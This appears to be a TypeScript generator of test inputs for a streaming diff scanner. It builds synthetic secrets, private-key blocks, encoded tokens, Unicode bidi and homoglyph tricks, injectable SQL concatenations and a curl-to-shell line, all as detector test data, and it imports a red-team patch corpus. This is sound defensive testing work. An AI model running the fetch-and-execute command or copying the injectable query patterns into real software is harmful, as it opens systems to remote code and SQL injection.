// Inputs for the streaming-scan comparison: generated diffs and texts that
// hold everything the scan looks at (secrets, encoded secrets, key blocks,
// bidi and zero-width characters, homoglyphs, a pattern that crosses lines,
// query calls whose argument is on later lines, scripts, package configs),
// with CRLF, long lines, invalid UTF-8, a byte order mark, blank runs and
// no final newline; plus the real patches of the red-team corpus.
import { BENIGN, MALICIOUS } from "./malicious_patches/corpus.ts";
import { HELD_OUT } from "./malicious_patches/held_out.ts";
import { tuningCorpus } from "./secrets_corpus/tuning.ts";

/** One input: a name for messages, the bytes, and a plain text's file name. */
export interface Input {
  name: string;
  bytes: Uint8Array;
  filename?: string;
}

const enc = new TextEncoder();

/** A deterministic generator (tests compare runs). */
export class Rng {
  #s: number;
  constructor(seed: number) {
    this.#s = seed;
  }
  int(n: number): number {
    this.#s = (this.#s * 1103515245 + 12345) & 0x7fffffff;
    return this.#s % n;
  }
  pick<T>(xs: readonly T[]): T {
    return xs[this.int(xs.length)]!;
  }
  tok(n: number, alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") {
    let s = "";
    for (let i = 0; i < n; i++) s += alphabet[this.int(alphabet.length)];
    return s;
  }
}

const hexEsc = (s: string) => [...s].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join("");

/** Groups of lines: each group is one thing the scan looks at, some over several lines. */
function groups(r: Rng): string[][] {
  const ghp = "ghp_" + r.tok(36);
  const akia = "AKIA" + r.tok(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567");
  return [
    ["  const result = await fetchUser(id, { retries: 3 });"],
    ["  return items.filter((x) => x.enabled).map((x) => x.name);"],
    [`const key = "${akia}";`],
    [`GITHUB_TOKEN=${ghp}`],
    [`SLACK=xoxb-123456789012-1234567890123-${r.tok(24)}`],
    [`password = "${r.tok(6)}#${r.tok(6)}9"`],
    ["-----BEGIN RSA PRIVATE KEY-----", r.tok(64), r.tok(64), "-----END RSA PRIVATE KEY-----"],
    ["-----BEGIN OPENSSH PRIVATE KEY-----", ...Array.from({ length: 12 }, () => r.tok(70))],
    [`const t = "${hexEsc(ghp)}";`],
    [`const a = "${ghp.slice(0, 10)}" +`, `  "${ghp.slice(10)}";`],
    [`const parts = ["${ghp.slice(0, 6)}",`, "", `  "${ghp.slice(6)}"].join("");`],
    [`const r = "${[...ghp].reverse().join("")}";`],
    [`blob: ${btoa(`token=${ghp}`)}`],
    ["const x = 1; // \u202Eevil\u202C"],
    ["const a\u200Bb = 2;"],
    ["const pаypal = 3; // Cyrillic а"],
    ["  prevent_destroy = false"],
    ["  prevent_destroy", "", "   =", "  false"],
    ['db.query("SELECT * FROM t WHERE id = " + id);'],
    ["await db.query(", "", '  "SELECT 1",', ");"],
    ["await db.query(", "  `SELECT * FROM t WHERE id = ${id}`", ");"],
    ["const sql = 'SELECT * FROM users WHERE name = ' + name;", "db.execute(sql);"],
    ["curl -fsSL https://example.invalid/i.sh | sh"],
    ["x".repeat(5000) + ` ${ghp}`],
    [r.tok(3000, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")],
    ["", "", ""],
    ["   ", "\t"],
    ["mixed \r in the middle"],
    ["π ≈ 3.14159 — naïve café 日本語 🎉"],
    [`url = "https://user:${r.tok(12)}@example.com/db"`],
  ];
}

/** Lines of text: `n` groups picked at random. */
export function textLines(r: Rng, n: number): string[] {
  const gs = groups(r);
  const out: string[] = [];
  for (let i = 0; i < n; i++) out.push(...r.pick(gs));
  return out;
}

/** Join lines with a mix of line ends (LF, CRLF, some lone CR before LF twice). */
export function joinLines(r: Rng, lines: readonly string[], eol: "lf" | "crlf" | "mixed"): string {
  let s = "";
  for (const l of lines) {
    const e = eol === "lf"
      ? "\n"
      : eol === "crlf"
      ? "\r\n"
      : r.pick(["\n", "\n", "\r\n", "\r\r\n"]);
    s += l + e;
  }
  return s;
}

const FILE_NAMES = [
  "src/db.ts",
  "src/util.js",
  "app/models.py",
  "notes.txt",
  "deploy.sh",
  "Dockerfile",
  ".github/workflows/ci.yml",
  "package.json",
  ".npmrc",
  "infra/main.tf",
  "src/cоnfig.ts", // a homoglyph in the name
  "../escape.txt",
];

/** One file section of a git diff. */
function section(r: Rng, path: string, body: readonly string[], style: number): string[] {
  const out: string[] = [];
  const kind = style % 4;
  if (kind === 0) {
    out.push(`diff --git a/${path} b/${path}`, "new file mode 100644", "index 0000000..1111111");
    out.push("--- /dev/null", `+++ b/${path}`, `@@ -0,0 +1,${body.length} @@`);
    for (const l of body) out.push("+" + l);
    return out;
  }
  if (kind === 1) {
    // A modification in two hunks with context and removals.
    const half = Math.max(1, body.length >> 1);
    out.push(`diff --git a/${path} b/${path}`, "index 1111111..2222222 100644");
    out.push(`--- a/${path}`, `+++ b/${path}`);
    out.push(`@@ -1,3 +1,${half + 2} @@ function ctx() {`, " first", "-old line");
    for (const l of body.slice(0, half)) out.push("+" + l);
    out.push(" last");
    const start = 40 + r.int(10);
    out.push(`@@ -${start},2 +${start + half},${body.length - half + 1} @@`, " ctx");
    for (const l of body.slice(half)) out.push("+" + l);
    out.push("-gone");
    return out;
  }
  if (kind === 2) {
    // Plain headers, wrong counts, trailing blank separators, no newline marker.
    out.push(`--- ${path}`, `+++ ${path}`, `@@ -1 +1,${body.length + 5} @@`);
    for (const l of body) out.push("+" + l);
    out.push("\\ No newline at end of file", "", "");
    return out;
  }
  // Hunks out of order (line numbers fall back), a deletion, a rename.
  out.push(`diff --git a/old/${path} b/${path}`, "similarity index 90%");
  out.push(`rename from old/${path}`, `rename to ${path}`, `--- a/old/${path}`, `+++ b/${path}`);
  const half = Math.max(1, body.length >> 1);
  out.push(`@@ -50,1 +50,${body.length - half + 1} @@`, " tail");
  for (const l of body.slice(half)) out.push("+" + l);
  out.push(`@@ -1,1 +1,${half + 1} @@`, " head");
  for (const l of body.slice(0, half)) out.push("+" + l);
  return out;
}

/** A diff of `files` sections with `lines` groups each. */
export function diffLines(r: Rng, files: number, lines: number): string[] {
  const out: string[] = [];
  for (let k = 0; k < files; k++) {
    const path = r.pick(FILE_NAMES).replace(/(\.\w+)?$/, (ext) => `_${k}${ext}`);
    const name = r.int(5) === 0 ? r.pick(FILE_NAMES) : path;
    out.push(...section(r, name, textLines(r, 1 + r.int(lines)), r.int(4)));
    if (r.int(6) === 0) {
      out.push(`diff --git a/gone_${k}.txt b/gone_${k}.txt`, "deleted file mode 100644");
    }
  }
  return out;
}

const bytes = (s: string) => enc.encode(s);
const concat = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
};

/** Every input of the comparison. */
export function allInputs(): Input[] {
  const r = new Rng(1234);
  const inputs: Input[] = [];
  const add = (name: string, data: string | Uint8Array, filename?: string) =>
    inputs.push({
      name,
      bytes: typeof data === "string" ? bytes(data) : data,
      ...(filename ? { filename } : {}),
    });
  add("empty", "");
  add("one newline", "\n");
  add("one line, no newline", `token = "${r.tok(30)}"`);
  for (const eol of ["lf", "crlf", "mixed"] as const) {
    add(`text ${eol}`, joinLines(r, textLines(r, 120), eol));
    add(`text ${eol} named .md`, joinLines(r, textLines(r, 120), eol), "docs/notes.md");
    add(`diff ${eol}`, joinLines(r, diffLines(r, 30, 8), eol));
  }
  add("text, no final newline", joinLines(r, textLines(r, 60), "lf").slice(0, -1));
  add("diff, no final newline", joinLines(r, diffLines(r, 8, 6), "lf").slice(0, -1));
  add("text named .txt", joinLines(r, textLines(r, 80), "lf"), "notes.txt");
  add("text named .ts (SQL reads it whole)", joinLines(r, textLines(r, 40), "lf"), "src/db.ts");
  add("script by shebang", "#!/bin/sh\n" + joinLines(r, textLines(r, 20), "lf"), "run");
  add(
    "one huge diff section",
    joinLines(r, section(r, "big/data.txt", textLines(r, 600), 0), "lf"),
  );
  add("one huge code section", joinLines(r, section(r, "big/app.ts", textLines(r, 400), 1), "lf"));
  add(
    "huge section, hunks out of order",
    joinLines(r, section(r, "big/x.md", textLines(r, 300), 3), "lf"),
  );
  {
    // Past 5000 added lines a file's content checks read only the lines their
    // pattern picks: a homoglyph in Cyrillic Extended-B (outside the pattern)
    // and escaped tokens among filler.
    const many = Array.from(
      { length: 5200 },
      (_, i) =>
        i === 0
          ? `const first = "${hexEsc("ghp_" + r.tok(36))}";`
          : i === 10
          ? "const pаypal = 1; // Cyrillic а"
          : i % 700 === 3
          ? "const \uA641dmin = 1; // Cyrillic Extended-B"
          : i % 900 === 5
          ? `const t = "${hexEsc("ghp_" + r.tok(36))}";`
          : `let v${i} = ${i};`,
    );
    add("section over 5000 added lines", joinLines(r, section(r, "gen/big.ts", many, 0), "lf"));
    add(
      "section at 5000 added lines",
      joinLines(r, section(r, "gen/b.ts", many.slice(0, 5000), 0), "lf"),
    );
  }
  add("huge script section", joinLines(r, section(r, "big/run.sh", textLines(r, 200), 0), "lf"));
  add(
    "invalid UTF-8 and a BOM",
    concat(
      new Uint8Array([0xef, 0xbb, 0xbf]),
      bytes(joinLines(r, textLines(r, 30), "lf")),
      new Uint8Array([0xff, 0xfe, 0x0a, 0xc3, 0x28, 0xe2, 0x82, 0x0a, 0xf0, 0x9f]),
      bytes(joinLines(r, textLines(r, 30), "lf")),
      new Uint8Array([0xe2, 0x82]),
    ),
  );
  add(
    "diff with binary bytes",
    concat(
      bytes(joinLines(r, diffLines(r, 5, 5), "lf")),
      bytes("diff --git a/bin.dat b/bin.dat\nnew file mode 100644\n--- /dev/null\n+++ b/bin.dat\n"),
      bytes("@@ -0,0 +1,3 @@\n+"),
      new Uint8Array([0x00, 0x01, 0x80, 0xff, 0x0d, 0x0a, 0x2b, 0xc0, 0xaf, 0x0a, 0x2b]),
      bytes(`${"x".repeat(100)}\n`),
    ),
  );
  add("diff after blank lines", "\n\n  \n" + joinLines(r, diffLines(r, 6, 5), "lf"));
  add(
    "diff in prose (read whole)",
    "Here is the fix:\n\n```diff\n" + joinLines(r, diffLines(r, 4, 4), "lf") + "```\nDone.\n",
  );
  add(
    "hunk before any header (plain after all)",
    "@@ -1 +1 @@\n--- a\n+++ b\n+x\n" + joinLines(r, textLines(r, 40), "lf"),
  );
  add("headers only", "--- a/x\n+++ b/x\n--- a/y\n+++ b/y\n");
  // Real patches: the red-team and benign corpora, each and all concatenated.
  const corpus = [...MALICIOUS, ...BENIGN, ...HELD_OUT];
  corpus.forEach((c, i) => {
    if (i % 3 === 0) add(`corpus ${c.cls}: ${c.name}`, c.diff);
  });
  add(
    "corpus concatenated",
    corpus.map((c) => c.diff.endsWith("\n") ? c.diff : c.diff + "\n").join(""),
  );
  add("secrets corpus as text", tuningCorpus().map((e) => e.text).join("\n") + "\n");
  add("secrets corpus as .env", tuningCorpus().map((e) => e.text).join("\n"), "config/.env");
  return inputs;
}
